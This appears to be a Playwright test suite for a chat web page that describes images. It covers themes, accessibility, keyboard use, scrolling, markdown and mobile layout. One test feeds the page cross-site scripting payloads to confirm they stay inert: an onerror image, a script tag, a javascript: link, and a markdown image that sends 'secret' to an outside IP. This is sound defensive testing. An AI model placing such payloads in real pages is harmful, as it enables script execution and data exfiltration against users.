"""How the page looks and behaves: themes, sizes, keyboard, assistive technology, and answers that mean harm."""

import threading
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe

from acting import PICTURE, add, answered, ask
from stand_in import PAGE, PATIENCE, answer

MARKDOWN = """The chart has **four bars**, *A* to *D*:

| bar | value |
|---|---|
| A | 4 |

2. Second
   - nested
3. Third with `code`

### In short
2 * 3 * 4 and snake_case_name stay.

```python
print("**not bold**")
```"""

AT_END = "() => document.documentElement.scrollHeight - innerHeight - scrollY < 48"


def background(page):
    return page.evaluate("getComputedStyle(document.body).backgroundColor")


def brightness(page):
    return sum(int(part) for part in background(page).strip("rgb()").split(","))


def is_at_end(page, wanted):
    """Waits for it, and looks between frames, when the page has followed what it has grown by."""
    page.wait_for_function(f"wanted => ({AT_END})() === wanted", arg=wanted, polling=50)


def test_the_theme_is_the_systems_until_it_is_chosen(open_page, stand_in):
    page = open_page(stand_in.address, color_scheme="light")
    assert brightness(page) > 600 and page.get_attribute("#theme", "aria-pressed") == "false"
    page.emulate_media(color_scheme="dark")
    page.wait_for_selector("#theme[aria-pressed=true]")
    assert brightness(page) < 150
    page.click("#theme")
    assert brightness(page) > 600
    page.reload()
    assert brightness(page) > 600 and page.get_attribute("#theme", "aria-pressed") == "false"
    page.emulate_media(color_scheme="light")
    page.click("#theme")
    page.wait_for_selector("#theme[aria-pressed=true]")
    assert brightness(page) < 150


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(open_page, stand_in, scheme):
    page = open_page(stand_in.address, color_scheme=scheme)
    stand_in.replies.append(answer(MARKDOWN, finish="length"))
    page.wait_for_selector("#examples:not([hidden])")
    found = [Axe().run(page)]
    add(page, PICTURE)
    ask(page, "Describe the image.")
    answered(page)
    add(page, PICTURE)
    found.append(Axe().run(page))
    page.click("#open-settings")
    page.fill("#schema", "{")
    found.append(Axe().run(page, context="#settings"))
    assert [result.generate_report() for result in found if result.violations_count] == []


def test_everything_can_be_done_by_keyboard(page, stand_in):
    stand_in.replies += [answer("First."), answer("word ", threading.Event())]
    focused = "document.activeElement.id || document.activeElement.getAttribute('aria-label') || document.activeElement.textContent"
    press = page.keyboard.press
    # Asks Chromium for its file choosers well before one opens: doing so just before is a race.
    page.on("filechooser", lambda _: None)

    def tab_to(what):
        for _ in range(20):
            if page.evaluate(focused).strip() == what:
                style = page.evaluate("(({ outlineStyle, outlineWidth }) => outlineStyle + outlineWidth)(getComputedStyle(document.activeElement))")
                assert style == "solid2px", f"focus on {what} cannot be seen"
                return
            press("Tab")
        raise AssertionError(f"Tab does not reach {what}")

    page.wait_for_selector("#question:focus")
    tab_to("choose")
    with page.expect_file_chooser() as chooser:
        press("Enter")
    chooser.value.set_files([PICTURE, PICTURE])
    page.locator("#tray img >> nth=1").wait_for()
    assert page.evaluate(focused) == "question"
    tab_to("Remove demo.png")
    press("Enter")
    assert page.evaluate(focused) == "Remove demo.png", "focus goes to the picture that is left"
    tab_to("budget")
    press("ArrowLeft")
    tab_to("send")
    tab_to("open-settings")
    press("Enter")
    assert page.evaluate(focused) == "system"
    page.keyboard.type("Be brief.")
    press("Escape")
    assert page.evaluate(focused) == "open-settings", "focus goes back to where it was"
    tab_to("theme")
    press("Space")
    page.focus("#question")
    page.keyboard.type("One line")
    press("Shift+Enter")
    page.keyboard.type("and another")
    press("Enter")
    answered(page)
    sent = stand_in.requests[-1]["messages"]
    assert sent[0]["content"] == "Be brief." and sent[1]["content"][1]["text"] == "One line\nand another"
    page.keyboard.type("More")
    press("Enter")
    page.locator(".answer >> nth=1 >> .text", has_text="word").wait_for()
    press("Escape")
    answered(page, 2)
    tab_to("Copy")
    tab_to("new")
    press("Enter")
    assert page.locator("#empty").is_visible() and page.evaluate(focused) == "question"


def test_answers_are_told_to_screen_readers_once_they_are_complete(page, stand_in):
    seen = threading.Event()
    stand_in.replies.append(answer("A ", seen, "red ", "circle."))
    ask(page, "Describe the image.")
    page.locator(".answer .text", has_text="A").wait_for()
    assert page.text_content("#live") == "Reading the question"
    seen.set()
    answered(page)
    assert page.text_content("#live").strip() == "A red circle."


def test_the_end_stays_in_sight_unless_the_reader_has_left_it(page, stand_in):
    stand_in.replies.append(answer(*["line\n\n"] * PATIENCE * 50, pause=0.02))
    lines = page.locator(".answer .text p")
    ask(page, "Long, please.")
    lines.nth(40).wait_for()
    is_at_end(page, True)
    page.mouse.wheel(0, -600)
    is_at_end(page, False)
    lines.nth(lines.count() + 20).wait_for()
    page.keyboard.press("Escape")
    answered(page)
    # The page would follow at the next frame.
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert not page.evaluate(AT_END), "the reader was pulled away"


def test_the_end_stays_in_sight_however_fast_the_page_grows(page, stand_in):
    stand_in.replies.append(answer("line\n\n" * 80))
    ask(page, "Long, please.")
    answered(page)
    is_at_end(page, True)
    # The page hears that it was scrolled only at the next frame, when it has grown.
    page.evaluate(
        """() => {
            scrollBy(0, -10);
            scrollBy(0, 10);
            const last = document.querySelector(".answer .text").lastChild;
            for (let i = 0; i < 20; i++) last.after(last.cloneNode(true));
        }"""
    )
    is_at_end(page, True)


def test_markdown_is_laid_out(page, stand_in):
    stand_in.replies.append(answer(*MARKDOWN.splitlines(keepends=True)))
    ask(page, "Describe the chart.")
    answered(page)
    text = page.locator(".answer .text")
    assert text.locator("strong").inner_text() == "four bars"
    assert [cell.inner_text() for cell in text.locator("td").all()] == ["A", "4"]
    assert text.locator("ol").get_attribute("start") == "2"
    assert text.locator("ol > li > ul > li").inner_text() == "nested"
    assert text.locator("h3").inner_text() == "In short"
    assert text.locator("pre").inner_text() == 'print("**not bold**")'
    assert "2 * 3 * 4 and snake_case_name stay." in text.inner_text()


def test_answers_can_neither_run_nor_fetch_nor_link(page, stand_in):
    harm = "<img src=x onerror=alert(1)> ![x](http://198.51.100.1/?q=secret) [here](javascript:alert(1)) <script>alert(1)</script>"
    stand_in.replies.append(answer(harm, "\n\n| " + harm + " |\n|---|\n| `" + harm + "` |"))
    ask(page, "<b>bold?</b>")
    assert answered(page).startswith(harm)
    assert page.inner_text(".question p") == "<b>bold?</b>"
    assert page.locator("#transcript :is(img, script, a, b)").count() == 0


@pytest.mark.parametrize("width", [320, 390])
def test_a_phone_shows_everything(open_page, stand_in, width):
    page = open_page(stand_in.address, viewport={"width": width, "height": 640}, has_touch=True, is_mobile=True)
    stand_in.replies.append(answer(MARKDOWN + "\n\n" + "wide" * 60))
    add(page, PICTURE, PICTURE, PICTURE)
    page.wait_for_function("() => [...document.images].every((image) => image.complete)")
    fits = "document.documentElement.scrollWidth <= innerWidth"
    assert page.evaluate(fits)
    ask(page, "Describe the chart.")
    answered(page)
    assert page.evaluate(fits)
    for control in page.locator("header button, #composer button:visible, #question").all():
        box = control.bounding_box()
        assert 0 <= box["x"] and box["x"] + box["width"] <= width and box["y"] + box["height"] <= 640
    page.get_by_role("button", name="New conversation").tap()
    page.locator("#empty").wait_for()  # A tap becomes a click only after a while.


def test_enter_begins_a_line_where_there_is_no_other_way_to(open_page, stand_in):
    page = open_page(stand_in.address, has_touch=True, is_mobile=True)
    page.locator("#question").press("Enter")
    page.locator("#question").press_sequentially("two")
    assert page.input_value("#question") == "\ntwo"
    assert stand_in.requests == []


def test_the_page_stays_small():
    files = [file for file in Path(PAGE).iterdir() if file.suffix in {".html", ".css", ".js", ".svg"}]
    assert len(files) == 16
    assert sum(file.stat().st_size for file in files) < 56_000
